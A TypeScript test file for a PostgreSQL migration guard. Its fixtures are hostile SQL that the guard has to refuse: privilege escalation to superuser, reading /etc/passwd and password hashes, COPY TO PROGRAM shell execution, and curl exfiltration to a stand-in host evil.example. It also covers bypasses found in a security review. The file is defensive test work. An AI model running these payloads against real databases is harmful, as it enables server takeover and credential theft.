import { describe, expect, it } from 'vitest';
import {
  DEFAULT_ALLOWED_EXTENSIONS, DEFAULT_FENCE_ALLOWANCES, FENCE_KINDS, FenceError, assertFenceAllows, findFenceViolations,
  type FenceAllowances,
} from './sql-guard';

const fence = (sql: string, allowances: FenceAllowances = DEFAULT_FENCE_ALLOWANCES) => findFenceViolations(sql, allowances);
const kindsOf = async (sql: string, allowances?: FenceAllowances) => (await fence(sql, allowances)).map((v) => v.kind);

/** Each refused kind, in several spellings: [kind, sql]. */
const REFUSED: [string, string][] = [
  ['database', 'CREATE DATABASE shop_copy;'],
  ['database', 'create database "Shop" template shop;'],
  ['database', 'DROP DATABASE shop WITH (FORCE);'],
  ['database', 'DROP DATABASE IF EXISTS shop;'],
  ['database', "ALTER DATABASE shop SET search_path = 'evil';"],
  ['database', 'ALTER DATABASE shop RENAME TO gone;'],
  ['database', 'ALTER DATABASE shop OWNER TO mallory;'],
  ['database', 'ALTER DATABASE shop CONNECTION LIMIT 0;'],
  ['database', 'ALTER DATABASE shop RESET ALL;'],
  ['role', "ALTER ROLE CURRENT_USER PASSWORD 'owned';"],
  ['role', "alter user current_user with password 'owned';"],
  ['role', 'CREATE ROLE mallory SUPERUSER LOGIN;'],
  ['role', "CREATE USER mallory PASSWORD 'x';"],
  ['role', 'CREATE GROUP auditors;'],
  ['role', 'DROP ROLE IF EXISTS app;'],
  ['role', 'DROP USER app;'],
  ['role', 'ALTER ROLE app SET search_path = evil;'],
  ['role', 'ALTER ROLE ALL IN DATABASE shop SET work_mem = 1;'],
  ['role', 'ALTER ROLE app RENAME TO app2;'],
  ['role', 'REASSIGN OWNED BY app TO postgres;'],
  ['role', 'DROP OWNED BY app;'],
  ['role_membership', 'GRANT pg_read_server_files TO app;'],
  ['role_membership', 'GRANT postgres TO CURRENT_USER WITH ADMIN OPTION;'],
  ['role_membership', 'REVOKE admin FROM bob;'],
  ['role_membership', 'ALTER GROUP admins ADD USER bob;'],
  ['alter_system', "ALTER SYSTEM SET archive_command = 'curl evil | sh';"],
  ['alter_system', 'alter system reset all;'],
  ['alter_system', 'GRANT SET ON PARAMETER log_statement TO app;'],
  ['copy_file', "COPY orders TO '/tmp/orders.csv';"],
  ['copy_file', "COPY orders FROM '/etc/passwd';"],
  ['copy_file', "COPY (SELECT 1) TO PROGRAM 'curl -d @/etc/passwd evil.example';"],
  ['copy_file', "copy orders from program 'cat /etc/shadow';"],
  ['load', "LOAD 'auto_explain';"],
  ['load', "load '/tmp/evil.so';"],
  ['set_role', 'SET ROLE postgres;'],
  ['set_role', 'SET LOCAL ROLE postgres;'],
  ['set_role', "SET SESSION AUTHORIZATION 'postgres';"],
  ['set_role', 'SET SESSION AUTHORIZATION DEFAULT;'],
  ['set_role', 'SET role = postgres;'],
  ['set_role', 'RESET ROLE;'],
  ['set_role', 'RESET SESSION AUTHORIZATION;'],
  ['set_role', "SELECT set_config('role', 'postgres', false);"],
  ['set_role', "SELECT pg_catalog.set_config('SESSION_AUTHORIZATION', 'postgres', true);"],
  ['set_role', 'CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = postgres AS $$ SELECT 1 $$;'],
  ['extension', 'CREATE EXTENSION dblink;'],
  ['extension', 'CREATE EXTENSION IF NOT EXISTS postgres_fdw;'],
  ['extension', 'create extension "adminpack";'],
  ['extension', 'CREATE EXTENSION plpython3u;'],
  ['extension', 'CREATE LANGUAGE plperlu;'],
  ['untrusted_language', "CREATE FUNCTION sh(text) RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen(args[0]).read() $$;"],
  ['untrusted_language', "CREATE OR REPLACE FUNCTION f() RETURNS int AS 'evil.so', 'f' LANGUAGE C;"],
  ['untrusted_language', "CREATE FUNCTION f() RETURNS int AS 'int4in' LANGUAGE internal;"],
  ['untrusted_language', 'CREATE PROCEDURE p() LANGUAGE plperlu AS $$ system("id") $$;'],
  ['untrusted_language', "DO LANGUAGE plpython3u $$ import os $$;"],
  ['untrusted_language', 'DO $$ print(1) $$ LANGUAGE PLPERLU;'],
  ['server_files', "SELECT pg_read_file('/etc/passwd');"],
  ['server_files', "SELECT PG_READ_FILE('/etc/passwd');"],
  ['server_files', `SELECT "pg_read_file"('/etc/passwd');`],
  ['server_files', "SELECT pg_catalog.pg_read_file('postgresql.conf');"],
  ['server_files', `SELECT "pg_catalog"."pg_read_binary_file"('global/pg_control');`],
  ['server_files', "SELECT * FROM pg_ls_dir('.');"],
  ['server_files', "SELECT pg_stat_file('postgresql.conf');"],
  ['server_files', "SELECT lo_import('/etc/passwd');"],
  ['server_files', "SELECT lo_export(16384, '/tmp/x');"],
  ['dblink', "SELECT dblink_exec('dbname=postgres', 'DROP DATABASE shop');"],
  ['dblink', "SELECT * FROM dblink('dbname=other', 'SELECT 1') AS t(x int);"],
  ['dblink', "SELECT public.dblink_connect('c', 'host=evil.example');"],
  ['dblink', "SELECT DBLINK_CONNECT_U('c', 'dbname=postgres');"],
  ['tablespace', "CREATE TABLESPACE fast LOCATION '/mnt/fast';"],
  ['tablespace', 'DROP TABLESPACE IF EXISTS fast;'],
  ['tablespace', 'ALTER TABLESPACE fast SET (random_page_cost = 1);'],
  ['foreign_server', "CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example');"],
  ['foreign_server', 'CREATE USER MAPPING FOR CURRENT_USER SERVER other;'],
  ['foreign_server', 'IMPORT FOREIGN SCHEMA public FROM SERVER other INTO stolen;'],
  ['foreign_server', "CREATE SUBSCRIPTION s CONNECTION 'host=evil.example' PUBLICATION p;"],
  ['server_control', 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity;'],
  ['server_control', 'SELECT pg_reload_conf();'],
  ['server_control', "SELECT pg_create_logical_replication_slot('s', 'pgoutput');"],
  ['catalog', 'UPDATE pg_authid SET rolsuper = true WHERE rolname = current_user;'],
  ['catalog', "DELETE FROM pg_catalog.pg_database WHERE datname = 'shop';"],
  ['catalog', 'INSERT INTO pg_auth_members VALUES (10, 16384, 10, false);'],
  ['catalog', 'LOCK TABLE pg_catalog.pg_authid IN ACCESS EXCLUSIVE MODE;'],
  ['catalog', 'GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA pg_catalog TO PUBLIC;'],
  ['event_trigger', 'CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION et();'],
  ['event_trigger', 'ALTER EVENT TRIGGER e ENABLE ALWAYS;'],
  ['event_trigger', 'DROP EVENT TRIGGER IF EXISTS e;'],
  ['dynamic_sql', "SELECT query_to_xml('SELECT pg_read_file(''/etc/hostname'') AS x', true, true, '');"],
  ['dynamic_sql', "SELECT * FROM crosstab('SELECT 1, 2, 3') AS t(a int, b int);"],
  ['dynamic_sql', "SELECT * FROM ts_stat('SELECT to_tsvector(body) FROM notes');"],
  ['unreadable', "CREATE FUNCTION q() RETURNS text LANGUAGE sql AS $$ SELECT 1 FROM nowhere WHERE $$;"],
  ['unreadable', 'CREATE FUNCTION q() RETURNS void LANGUAGE plpgsql AS $$ BEGIN garbage( $$;'],
];

describe('the SQL fence refuses statements that reach beyond one database', () => {
  it.each(REFUSED)('%s: %s', async (kind, sql) => {
    const violations = await fence(sql);
    expect(violations.map((v) => v.kind)).toContain(kind);
    const v = violations.find((x) => x.kind === kind)!;
    expect(v.line).toBe(1);
    expect(v.column).toBeGreaterThanOrEqual(1);
    expect(v.statement).toBe(sql.replace(/;$/, '').split('\n')[0]);
    expect(v.reason).toMatch(/\w{4,}.*\./);
  });

  it('every refused kind is one an admin can allow, and each is tested above', () => {
    const ids = FENCE_KINDS.map((k) => k.id);
    expect(new Set(REFUSED.map(([k]) => k))).toEqual(new Set(ids));
    for (const k of FENCE_KINDS) expect(k.label.length).toBeGreaterThan(5);
  });

  it('says why in words, as the issue asks', async () => {
    const [v] = await fence("ALTER SYSTEM SET work_mem = '1GB';");
    expect(v.reason).toBe("ALTER SYSTEM changes the whole server's configuration; Cutover only runs migrations that stay inside their database.");
  });
});

describe('calls are found anywhere in the tree', () => {
  const nested: [string, string][] = [
    ['a subquery', "SELECT 1 WHERE EXISTS (SELECT 1 FROM (SELECT pg_read_file('x') AS f) s);"],
    ['a CTE', "WITH f AS (SELECT pg_ls_dir('.') AS d) SELECT * FROM f;"],
    ['a column default', "CREATE TABLE t (a text DEFAULT pg_catalog.pg_read_file('/etc/hostname'));"],
    ['an ALTER COLUMN default', "ALTER TABLE t ALTER COLUMN a SET DEFAULT lo_import('/etc/passwd');"],
    ['a CHECK constraint', "ALTER TABLE t ADD CONSTRAINT c CHECK (length(pg_read_file('x')) > 0);"],
    ['a view definition', "CREATE VIEW v AS SELECT * FROM dblink('dbname=postgres', 'SELECT rolpassword FROM pg_authid') AS t(p text);"],
    ['a materialized view', "CREATE MATERIALIZED VIEW mv AS SELECT pg_read_binary_file('global/pg_control') AS b;"],
    ['an UPDATE', "UPDATE t SET a = pg_read_file('/etc/passwd');"],
    ['an INSERT ... SELECT', "INSERT INTO t SELECT pg_read_file(x) FROM pg_ls_dir('.') x;"],
    ['a generated column', "CREATE TABLE g (a text GENERATED ALWAYS AS (pg_read_file('x')) STORED);"],
    ['a COPY query to STDOUT', "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT;"],
    ['a CREATE TABLE AS', "CREATE TABLE stolen AS SELECT pg_read_file('/etc/passwd') AS p;"],
    ['a CALL argument', "CALL p(pg_read_file('x'));"],
    ['a PREPARE', "PREPARE s AS SELECT pg_read_file($1);"],
    ['an index expression', "CREATE INDEX i ON t ((pg_read_file(a)));"],
    ['a SQL-standard function body', 'CREATE FUNCTION f() RETURNS text RETURN dblink_exec(\'x\');'],
    ['a BEGIN ATOMIC body', "CREATE PROCEDURE p() BEGIN ATOMIC SELECT lo_export(1, '/tmp/x'); END;"],
    ['an operator made of it', 'CREATE OPERATOR ### (function = pg_read_file, rightarg = text);'],
    ['an aggregate made of it', 'CREATE AGGREGATE a(text) (sfunc = pg_catalog.pg_read_file, stype = text);'],
    ['a cast made of it', 'CREATE CAST (text AS int) WITH FUNCTION pg_catalog.pg_read_file(text);'],
    ['a trigger running it', 'CREATE TRIGGER t AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION dblink_exec();'],
    ['a GRANT of it', 'GRANT EXECUTE ON FUNCTION pg_read_file(text) TO PUBLIC;'],
  ];
  it.each(nested)('in %s', async (_where, sql) => {
    expect((await kindsOf(sql)).some((k) => k === 'server_files' || k === 'dblink')).toBe(true);
  });

  it('in the body of a LANGUAGE sql function, with the line in the file', async () => {
    const sql = [
      'CREATE TABLE ok (id int);',
      'CREATE FUNCTION leak() RETURNS text LANGUAGE sql AS $fn$',
      '  SELECT 1;',
      "  SELECT pg_read_file('/etc/passwd');",
      '$fn$;',
    ].join('\n');
    const [v] = await fence(sql);
    expect(v).toMatchObject({ kind: 'server_files', line: 4, column: 10, statement: 'CREATE FUNCTION leak() RETURNS text LANGUAGE sql AS $fn$' });
  });

  it('in a single-quoted SQL body with doubled quotes', async () => {
    const [v] = await fence("CREATE FUNCTION f() RETURNS text AS 'SELECT pg_read_file(''/etc/passwd'')' LANGUAGE sql;");
    expect(v.kind).toBe('server_files');
  });

  it('EXECUTE of SQL built at run time is refused as dynamic_sql, unless the target allows it', async () => {
    const sql = [
      "DO $$ BEGIN EXECUTE format('SET ROLE %I', 'postgres'); END $$;",
      "DO $$ BEGIN EXECUTE concat('SET ', 'ROLE postgres'); END $$;",
      "DO $$ DECLARE s text; BEGIN SELECT 'SET ROLE x' INTO s; EXECUTE s; END $$;",
      'CREATE FUNCTION run(s text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE s; END $$;',
    ].join('\n');
    expect((await fence(sql)).map((v) => [v.kind, v.line])).toEqual([['dynamic_sql', 1], ['dynamic_sql', 2], ['dynamic_sql', 3], ['dynamic_sql', 4]]);
    expect(await findFenceViolations(sql, { ...DEFAULT_FENCE_ALLOWANCES, allowedKinds: ['dynamic_sql'] })).toEqual([]);
  });

  it('catalog writes through a view, moves into pg_catalog and COPY of password hashes are refused', async () => {
    const sql = [
      'CREATE VIEW dv AS SELECT * FROM pg_catalog.pg_database;',
      "CREATE VIEW pv AS SELECT oid, proname FROM pg_proc WHERE proname = 'x';",
      'ALTER FUNCTION public.evil(text) SET SCHEMA pg_catalog;',
      'COPY pg_catalog.pg_authid (rolname, rolpassword) TO STDOUT;',
      'COPY pg_authid TO STDOUT;',
      'CREATE VIEW ok AS SELECT c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace;',
      'ALTER TABLE t SET SCHEMA archive;',
      'COPY t TO STDOUT;',
    ].join('\n');
    expect((await fence(sql)).map((v) => [v.kind, v.line])).toEqual([['catalog', 1], ['catalog', 2], ['catalog', 3], ['catalog', 4], ['catalog', 5]]);
  });

  it('in PL/pgSQL bodies: PERFORM, assignments, conditions, queries and constant EXECUTE strings', async () => {
    const sql = [
      'CREATE OR REPLACE FUNCTION audit() RETURNS trigger LANGUAGE plpgsql AS $$',
      'DECLARE x text;',
      'BEGIN',
      "  PERFORM pg_ls_dir('.');", // line 4
      "  x := pg_read_file('/etc/passwd');", // line 5
      "  IF lo_import('/etc/passwd') > 0 THEN", // line 6
      '    INSERT INTO t SELECT * FROM dblink($q$dbname=postgres$q$, $q$SELECT 1$q$) AS r(a int);', // line 7
      '  END IF;',
      "  EXECUTE 'ALTER SYSTEM SET work_mem = ''1GB''';", // line 9
      "  EXECUTE format('SELECT %I FROM t', x);", // line 10: built at run time, so unreadable: refused
      "  RETURN 'CREATE DATABASE not_a_statement';", // a string, not SQL
      'END $$;',
    ].join('\n');
    const violations = await fence(sql);
    expect(violations.map((v) => [v.kind, v.line])).toEqual([
      ['server_files', 4], ['server_files', 5], ['server_files', 6], ['dblink', 7], ['alter_system', 9], ['dynamic_sql', 10],
    ]);
    expect(violations[0].column).toBe(3);
  });

  it('in DO blocks, nested ones included', async () => {
    const sql = [
      'DO $do$',
      'DECLARE r record;',
      'BEGIN',
      "  EXECUTE 'DO $x$ BEGIN PERFORM pg_read_file(''/etc/passwd''); END $x$';",
      "  FOR r IN EXECUTE 'SELECT * FROM pg_ls_dir(''.'')' LOOP NULL; END LOOP;",
      'END',
      '$do$;',
    ].join('\n');
    expect((await fence(sql)).map((v) => [v.kind, v.line])).toEqual([['server_files', 4], ['server_files', 5]]);
  });

  it('in a PL/pgSQL body PostgreSQL would refuse to compile, by its tokens and the SQL in its strings', async () => {
    const sql = [
      'DO $do$',
      'BEGIN',
      "  FOR r IN EXECUTE 'SELECT * FROM pg_ls_dir(''.'')' LOOP NULL; END LOOP;", // r is not declared
      "  PERFORM lo_export(1, '/tmp/x');",
      'END $do$;',
    ].join('\n');
    // Refused as unreadable where the body starts, and what its tokens show is said too.
    expect((await fence(sql)).map((v) => [v.kind, v.line])).toEqual([['unreadable', 2], ['server_files', 3], ['server_files', 4]]);
  });

  it('refuses a body that does not parse, and still names the calls in its tokens', async () => {
    const violations = await fence("CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELEC pg_read_file('x') $$;");
    expect(violations.map((v) => v.kind)).toEqual(['unreadable', 'server_files']);
    expect(violations[0]).toMatchObject({ line: 1, column: 53 });
    expect(violations[0].reason).toMatch(/^SQL that does not parse \(syntax error at or near "SELEC"\) cannot be read by the fence/);
  });

  it('reports each statement of a file with its own line and first line', async () => {
    const sql = '-- CreateTable\nCREATE TABLE a (id int);\n\n/* sneaky */ ALTER SYSTEM SET x = 1;\nSELECT 1; LOAD \'x\';\n';
    const violations = await fence(sql);
    expect(violations).toMatchObject([
      { kind: 'alter_system', line: 4, column: 14, statement: 'ALTER SYSTEM SET x = 1' },
      { kind: 'load', line: 5, column: 11, statement: "LOAD 'x'" },
    ]);
  });

  it('counts columns in characters, not bytes', async () => {
    const [v] = await fence("SELECT 'é', pg_read_file('x');");
    expect(v.column).toBe(13);
  });
});

/** The attacker review of the fence (C2, C3, H2 and the fence items under Low): each is refused. */
describe('escapes found in review are refused', () => {
  const FINDINGS: [string, string, string][] = [
    // C2: a %TYPE in the signature made libpg-query give up on the whole PL/pgSQL body.
    ['C2 %TYPE parameter', 'set_role', 'CREATE FUNCTION boom(x t.a%TYPE) RETURNS void LANGUAGE plpgsql AS $$ BEGIN RESET ROLE; END $$;'],
    ['C2 %TYPE return type', 'role', 'CREATE FUNCTION boom() RETURNS public.t.a%TYPE LANGUAGE plpgsql AS $$ BEGIN CREATE ROLE attacker LOGIN SUPERUSER; RETURN NULL; END $$;'],
    ['C2 %TYPE and %ROWTYPE declarations', 'copy_file', "CREATE FUNCTION boom(x t.a % type) RETURNS void LANGUAGE plpgsql AS $$ DECLARE r t%ROWTYPE; y t.a%TYPE; BEGIN COPY t TO PROGRAM 'id'; END $$;"],
    ['C2 a body only PostgreSQL with check_function_bodies off would store', 'unreadable', "CREATE FUNCTION q() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE x SUPERUSER'; garbage( $$;"],
    // C3: attribute notation calls a function without writing a call.
    ['C3 attribute notation', 'server_files', "SELECT ('/etc/passwd'::text).pg_read_file;"],
    ['C3 attribute notation in a view', 'server_files', "CREATE VIEW v AS SELECT ('.'::text).pg_ls_dir;"],
    ['C3 attribute notation on a column', 'server_control', 'SELECT (pid).pg_terminate_backend FROM pg_stat_activity;'],
    ['C3 attribute notation on a qualified column', 'server_files', 'SELECT f.name.pg_read_file FROM files f;'],
    ['C3 attribute notation in PL/pgSQL', 'server_files', "DO $$ BEGIN PERFORM ('/etc/passwd'::text).pg_read_file; END $$;"],
    // C3: functions that run a string as SQL.
    ['C3 query_to_xml', 'dynamic_sql', "SELECT query_to_xml('SELECT set_config(''role'',''r'',false)', true, true, '');"],
    ['C3 query_to_xml built at run time', 'dynamic_sql', "SELECT query_to_xml(format('SELECT set_config(%L,%L,false)', 'role', 'postgres'), true, true, '');"],
    ['C3 cursor_to_xml', 'dynamic_sql', "SELECT cursor_to_xml('c', 10, true, true, '');"],
    ['C3 table_to_xml', 'dynamic_sql', "SELECT table_to_xml('orders', true, true, '');"],
    ['C3 database_to_xml', 'dynamic_sql', "SELECT database_to_xml(true, true, '');"],
    ['C3 ts_rewrite with a query', 'dynamic_sql', "SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases');"],
    ['C3 connectby', 'dynamic_sql', "SELECT * FROM connectby('tree', 'id', 'parent', '1', 0) AS t(id text, parent text, level int);"],
    ['C3 xpath_table', 'dynamic_sql', "SELECT * FROM xpath_table('id', 'doc', 'docs', '/a', 'true') AS t(id int, a text);"],
    ['C3 query_to_xml in PL/pgSQL', 'dynamic_sql', "DO $$ BEGIN RAISE NOTICE '%', query_to_xml('SELECT 1', true, true, ''); END $$;"],
    // H2: the system catalogs and server-wide statements.
    ['H2 UPDATE pg_settings (SET ROLE by another name)', 'catalog', "UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role';"],
    ['H2 MERGE into a catalog', 'catalog', 'MERGE INTO pg_catalog.pg_proc p USING x ON false WHEN NOT MATCHED THEN DO NOTHING;'],
    ['H2 TRUNCATE a catalog', 'catalog', 'TRUNCATE pg_catalog.pg_statistic;'],
    ['H2 ALTER TABLE a catalog', 'catalog', 'ALTER TABLE pg_catalog.pg_authid ENABLE ROW LEVEL SECURITY;'],
    ['H2 COPY into a catalog', 'catalog', 'COPY pg_authid FROM STDIN;'],
    ['H2 GRANT on a catalog table', 'catalog', 'GRANT SELECT ON pg_catalog.pg_authid TO PUBLIC;'],
    ['H2 REVOKE on a pg_catalog function', 'catalog', 'REVOKE EXECUTE ON FUNCTION pg_catalog.now() FROM PUBLIC;'],
    ['H2 ALTER of a pg_catalog function', 'catalog', 'ALTER FUNCTION pg_catalog.lower(text) SECURITY DEFINER;'],
    ['H2 renaming a pg_catalog function', 'catalog', 'ALTER FUNCTION pg_catalog.pg_read_file(text) RENAME TO innocent;'],
    ['H2 a function created in pg_catalog', 'catalog', 'CREATE FUNCTION pg_catalog.lower(x int) RETURNS int LANGUAGE sql AS $$ SELECT x $$;'],
    ['H2 default privileges in pg_catalog', 'catalog', 'ALTER DEFAULT PRIVILEGES IN SCHEMA pg_catalog GRANT EXECUTE ON FUNCTIONS TO PUBLIC;'],
    ['H2 reading password hashes', 'catalog', 'CREATE TABLE stolen AS SELECT rolname, rolpassword FROM pg_authid;'],
    ['H2 reading pg_shadow', 'catalog', 'SELECT passwd FROM pg_catalog.pg_shadow;'],
    ['H2 reading pg_file_settings', 'server_files', 'SELECT * FROM pg_file_settings;'],
    ['H2 reading pg_hba_file_rules', 'server_files', 'SELECT * FROM pg_catalog.pg_hba_file_rules;'],
    ['H2 reading pg_ident_file_mappings', 'server_files', 'SELECT * FROM pg_ident_file_mappings;'],
    ['H2 pg_show_all_file_settings()', 'server_files', 'SELECT * FROM pg_show_all_file_settings();'],
    ['H2 pg_current_logfile()', 'server_files', 'SELECT pg_current_logfile();'],
    ['H2 replication origins', 'server_control', "SELECT pg_replication_origin_create('x');"],
    ['H2 DROP SERVER', 'foreign_server', 'DROP SERVER s CASCADE;'],
    ['H2 DROP FOREIGN DATA WRAPPER', 'foreign_server', 'DROP FOREIGN DATA WRAPPER f CASCADE;'],
    ['H2 DROP USER MAPPING', 'foreign_server', 'DROP USER MAPPING FOR postgres SERVER s;'],
    ['H2 DROP SUBSCRIPTION', 'foreign_server', 'DROP SUBSCRIPTION s;'],
    ['H2 an event trigger made in PL/pgSQL', 'event_trigger', "DO $$ BEGIN CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION et(); END $$;"],
    // Low: constant EXECUTE strings in other spellings.
    ['Low EXECUTE of a cast constant', 'role', "DO $$ BEGIN EXECUTE 'ALTER ROLE x SUPERUSER'::text; END $$;"],
    ['Low EXECUTE of constants joined', 'set_role', "DO $$ BEGIN EXECUTE 'RESET ' || 'ROLE'; END $$;"],
    ['Low EXECUTE of a constant variable', 'role', "DO $$ DECLARE s text := 'ALTER ROLE x SUPERUSER'; BEGIN EXECUTE s; END $$;"],
    ['Low EXECUTE of a variable assigned a constant', 'set_role', "DO $$ DECLARE s text; BEGIN s := 'RESET ROLE'; EXECUTE s; END $$;"],
    ['Low EXECUTE of a constant that does not parse', 'unreadable', "DO $$ BEGIN EXECUTE 'ALTER ROLL x'; END $$;"],
    // Low: statements on server-wide objects.
    ['Low COMMENT ON ROLE', 'role', "COMMENT ON ROLE postgres IS 'x';"],
    ['Low COMMENT ON DATABASE', 'database', "COMMENT ON DATABASE postgres IS 'x';"],
    ['Low SECURITY LABEL ON ROLE', 'role', "SECURITY LABEL FOR selinux ON ROLE postgres IS 'x';"],
    ['Low COMMENT ON TABLESPACE', 'tablespace', "COMMENT ON TABLESPACE pg_default IS 'x';"],
    ['Low ALTER EXTENSION UPDATE outside the allow list', 'extension', 'ALTER EXTENSION dblink UPDATE;'],
    ['Low CREATE PUBLICATION FOR ALL TABLES', 'foreign_server', 'CREATE PUBLICATION p FOR ALL TABLES;'],
    ['Low CREATE PUBLICATION FOR TABLES IN SCHEMA', 'foreign_server', 'CREATE PUBLICATION p FOR TABLES IN SCHEMA public;'],
    ['Low ALTER PUBLICATION ADD TABLES IN SCHEMA', 'foreign_server', 'ALTER PUBLICATION p ADD TABLES IN SCHEMA public;'],
    ['Low CREATE TABLE ... TABLESPACE', 'tablespace', 'CREATE TABLE t2 (a int) TABLESPACE fast;'],
    ['Low a constraint index TABLESPACE', 'tablespace', 'CREATE TABLE t2 (a int, PRIMARY KEY (a) USING INDEX TABLESPACE fast);'],
    ['Low CREATE INDEX ... TABLESPACE', 'tablespace', 'CREATE INDEX i ON t (a) TABLESPACE fast;'],
    ['Low CREATE TABLE AS ... TABLESPACE', 'tablespace', 'CREATE TABLE t3 TABLESPACE fast AS SELECT 1;'],
    ['Low ALTER TABLE SET TABLESPACE', 'tablespace', 'ALTER TABLE t SET TABLESPACE fast;'],
    ['Low ALTER TABLE ALL IN TABLESPACE', 'tablespace', 'ALTER TABLE ALL IN TABLESPACE pg_default SET TABLESPACE fast;'],
    ['Low REINDEX (TABLESPACE)', 'tablespace', 'REINDEX (TABLESPACE fast) TABLE t;'],
    ['Low SET default_tablespace', 'tablespace', 'SET default_tablespace = fast;'],
    ['Low SET temp_tablespaces', 'tablespace', "SET temp_tablespaces = 'fast';"],
    ['Low DO LANGUAGE "PLPGSQL" (quoted: another, unknown language)', 'untrusted_language', `DO LANGUAGE "PLPGSQL" $$ BEGIN PERFORM pg_read_file('/x'); END $$;`],
    ['Low a function in LANGUAGE "SQL" (quoted)', 'untrusted_language', `CREATE FUNCTION f() RETURNS int LANGUAGE "SQL" AS $$ SELECT 1 $$;`],
    ['DISCARD ALL (resets the session authorization)', 'set_role', 'DISCARD ALL;'],
  ];
  it.each(FINDINGS)('%s', async (_name, kind, sql) => {
    const violations = await fence(sql);
    expect(violations.map((v) => v.kind)).toContain(kind);
    expect(violations.find((v) => v.kind === kind)!.reason).toMatch(/\w{4,}.*\.$/);
  });

  it('reads a PL/pgSQL body whose signature uses %TYPE statement by statement, with the lines in the file', async () => {
    const sql = [
      'CREATE TABLE t (a int);',
      'CREATE FUNCTION boom(x t.a%TYPE) RETURNS void LANGUAGE plpgsql AS $$',
      'BEGIN',
      "  CREATE ROLE attacker LOGIN SUPERUSER PASSWORD 'x';",
      "  COPY t TO PROGRAM 'id > /tmp/x';",
      '  RESET ROLE;',
      'END $$;',
    ].join('\n');
    expect((await fence(sql)).map((v) => [v.kind, v.line, v.column])).toEqual([['role', 4, 3], ['copy_file', 5, 3], ['set_role', 6, 3]]);
  });

  it('says why a body cannot be read', async () => {
    const [v] = await fence('CREATE FUNCTION q() RETURNS void LANGUAGE plpgsql AS $$ BEGIN garbage( $$;');
    expect(v.kind).toBe('unreadable');
    expect(v.reason).toMatch(/^A PL\/pgSQL body that does not parse \(.+\) cannot be read by the fence, so what it would run cannot be checked/);
  });

  it('an admin may allow unreadable bodies for one target, like other kinds', async () => {
    const sql = 'CREATE FUNCTION q() RETURNS void LANGUAGE plpgsql AS $$ BEGIN garbage( $$;';
    expect(await kindsOf(sql, { allowedKinds: ['unreadable'], allowedExtensions: [] })).toEqual([]);
    await expect(assertFenceAllows('m.sql', sql, DEFAULT_FENCE_ALLOWANCES)).rejects.toBeInstanceOf(FenceError);
  });
});

describe('real migrations pass', () => {
  const PASSING: [string, string][] = [
    ['Prisma-style DDL', [
      '-- CreateEnum',
      `CREATE TYPE "Role" AS ENUM ('USER', 'ADMIN');`,
      '',
      '-- CreateTable',
      `CREATE TABLE "User" ("id" TEXT NOT NULL, "email" TEXT NOT NULL, "role" "Role" NOT NULL DEFAULT 'USER', "createdAt" TIMESTAMP(3) NOT NULL DEFAULT CURRENT_TIMESTAMP, CONSTRAINT "User_pkey" PRIMARY KEY ("id"));`,
      '',
      '-- CreateIndex',
      `CREATE UNIQUE INDEX "User_email_key" ON "User"("email");`,
      '',
      '-- AddForeignKey',
      `ALTER TABLE "Post" ADD CONSTRAINT "Post_authorId_fkey" FOREIGN KEY ("authorId") REFERENCES "User"("id") ON DELETE RESTRICT ON UPDATE CASCADE;`,
    ].join('\n')],
    ['trusted extensions', 'CREATE EXTENSION IF NOT EXISTS pgcrypto;\nCREATE EXTENSION IF NOT EXISTS pg_trgm;\nCREATE EXTENSION IF NOT EXISTS "uuid-ossp" WITH SCHEMA public;\nCREATE EXTENSION citext;\nCREATE EXTENSION IF NOT EXISTS "plpgsql";'],
    ['a DO block', [
      'DO $$',
      'BEGIN',
      `  IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'status') THEN`,
      `    CREATE TYPE status AS ENUM ('a', 'b');`,
      '  END IF;',
      `  EXECUTE 'ALTER TABLE t ADD COLUMN IF NOT EXISTS role text';`,
      'EXCEPTION WHEN duplicate_object THEN NULL;',
      'END $$;',
    ].join('\n')],
    ['a PL/pgSQL trigger function', [
      'CREATE OR REPLACE FUNCTION set_updated_at() RETURNS trigger LANGUAGE plpgsql AS $$',
      'BEGIN',
      '  NEW.updated_at := now();',
      '  RETURN NEW;',
      'END $$;',
      'CREATE TRIGGER t_updated BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION set_updated_at();',
    ].join('\n')],
    ['a SQL function', 'CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql IMMUTABLE AS $$ SELECT a + b $$;'],
    ['COPY FROM STDIN and TO STDOUT', 'COPY t (a, b) FROM STDIN;\nCOPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv);'],
    ['privileges on tables are not role membership', 'GRANT SELECT ON TABLE orders TO reporting;\nGRANT USAGE ON SCHEMA app TO reporting;\nREVOKE ALL ON orders FROM PUBLIC;\nALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT ON TABLES TO reporting;\nGRANT CONNECT ON DATABASE shop TO reporting;'],
    ['ownership inside the database', 'ALTER TABLE orders OWNER TO app;\nCREATE SCHEMA IF NOT EXISTS app AUTHORIZATION app;'],
    ['ordinary settings', "SET statement_timeout = '5min';\nSET LOCAL lock_timeout = '3s';\nSELECT set_config('search_path', 'app, public', true);\nRESET search_path;"],
    ['a column named like a refused function', 'ALTER TABLE t ADD COLUMN dblink_id int;\nCREATE TABLE pg_read_file_log (pg_read_file text);\nSELECT "role" FROM users WHERE role = \'admin\';'],
    ['a string that mentions refused SQL', "INSERT INTO notes (body) VALUES ('DROP DATABASE shop; SELECT pg_read_file(''x'')');\nCOMMENT ON TABLE t IS 'ALTER SYSTEM is refused';"],
    ['transactions and concurrent indexes', 'BEGIN;\nCREATE INDEX CONCURRENTLY i ON t (a);\nCOMMIT;'],
